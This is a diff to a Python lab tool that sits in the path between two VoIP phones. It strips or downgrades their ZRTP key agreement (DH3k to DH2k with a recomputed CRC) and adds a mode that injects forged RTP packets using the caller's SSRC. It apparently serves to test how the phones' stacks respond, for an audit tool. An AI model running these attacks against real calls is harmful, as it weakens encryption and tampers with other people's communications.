@@ -1,18 +1,23 @@
 #!/usr/bin/python3
-"""An in-path attacker on ZRTP, for the interop lab (make_attack_zrtp.sh): run in the middle
-namespace with IP forwarding OFF, it forwards every IPv4 UDP datagram between the two phones
-itself (they are routed through it) and tampers with their ZRTP on the way. Not part of zaudit;
+"""An in-path attacker on the media, for the interop lab (make_attack.sh, make_attack_srtp.sh):
+run in the middle namespace with IP forwarding OFF, it forwards every IPv4 UDP datagram between
+the two phones itself (they are routed through it) and tampers with them on the way. Not part of zaudit;
 its only job is to make real stacks face a real attack, so that zaudit is judged on what the
 stacks then do.
 
-usage: zrtp_mitm.py MODE IFACE_A IFACE_B CALLER_IP CALLEE_IP LOG
+usage: media_mitm.py MODE IFACE_A IFACE_B CALLER_IP CALLEE_IP LOG
 MODE:
   strip           drop every ZRTP packet (the phones never see each other's Hello)
   hello-downgrade in the caller's Hello, replace the key agreement type DH3k by DH2k (same length,
                   a weaker group) and recompute the packet's CRC-32C: the message no longer
                   matches the caller's a=zrtp-hash nor its own MAC
+  inject-rtp      after the caller's 150th RTP packet to the callee, send the callee five forged
+                  ones of the same SSRC with the next five sequence numbers and random payload
+                  (the genuine packets of those numbers follow): what an attacker without the
+                  keys can do to an SRTP call
 Everything else (SIP goes to the proxy, not through here; RTP, STUN, RTCP) passes unchanged.
 """
+import os
 import socket
 import sys
 
@@ -66,14 +71,31 @@ def downgrade_hello(payload: bytes) -> bytes:
     return with_crc(bytes(body))
 
 
+def is_rtp(payload: bytes) -> bool:
+    """RTP version 2 and not RTCP (payload types 72-76 with the marker bit: RFC 5761)."""
+    return len(payload) >= 12 and payload[0] >> 6 == 2 and not 72 <= payload[1] <= 76 and not 200 <= payload[1] <= 204
+
+
+def forge_next(genuine: bytes, count: int):
+    """Packets of the genuine one's SSRC with the next sequence numbers and timestamps, random
+    bytes after the 12-byte header (no CSRC or extension kept: the forger has no key anyway)."""
+    sequence = int.from_bytes(genuine[2:4], "big")
+    timestamp = int.from_bytes(genuine[4:8], "big")
+    for i in range(1, count + 1):
+        header = bytes([0x80, genuine[1] & 0x7F]) + ((sequence + i) & 0xFFFF).to_bytes(2, "big")
+        header += ((timestamp + 160 * i) & 0xFFFFFFFF).to_bytes(4, "big") + genuine[8:12]
+        yield header + os.urandom(len(genuine) - 12)
+
+
 def main():
     mode, iface_a, iface_b, caller, callee, log_path = sys.argv[1:]
     edits = {"hello-downgrade": downgrade_hello}
-    if mode != "strip" and mode not in edits:
-        sys.exit(f"zrtp_mitm: unknown mode {mode}")
+    if mode not in ("strip", "inject-rtp") and mode not in edits:
+        sys.exit(f"media_mitm: unknown mode {mode}")
     own_macs = {get_if_hwaddr(iface_a), get_if_hwaddr(iface_b)}
     out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     log = open(log_path, "w", buffering=1)
+    rtp_to_callee = [0]
 
     def handle(frame):
         if Ether not in frame or frame[Ether].src in own_macs or IP not in frame or UDP not in frame:
@@ -98,6 +120,14 @@ def main():
                     del ip.len
                     del ip.chksum
         out.sendto(bytes(ip), (ip.dst, 0))
+        if mode == "inject-rtp" and not kind and ip.src == caller and is_rtp(payload):
+            rtp_to_callee[0] += 1
+            if rtp_to_callee[0] == 150:
+                for forged in forge_next(payload, 5):
+                    log.write(f"injected RTP ssrc {forged[8:12].hex()} seq {int.from_bytes(forged[2:4], 'big')}"
+                              f" {ip.src} -> {ip.dst}\n")
+                    packet = IP(src=ip.src, dst=ip.dst, ttl=ip.ttl) / UDP(sport=ip[UDP].sport, dport=ip[UDP].dport)
+                    out.sendto(bytes(packet / forged), (ip.dst, 0))
 
     sniff(iface=[iface_a, iface_b], filter="udp", prn=handle, store=False)
 
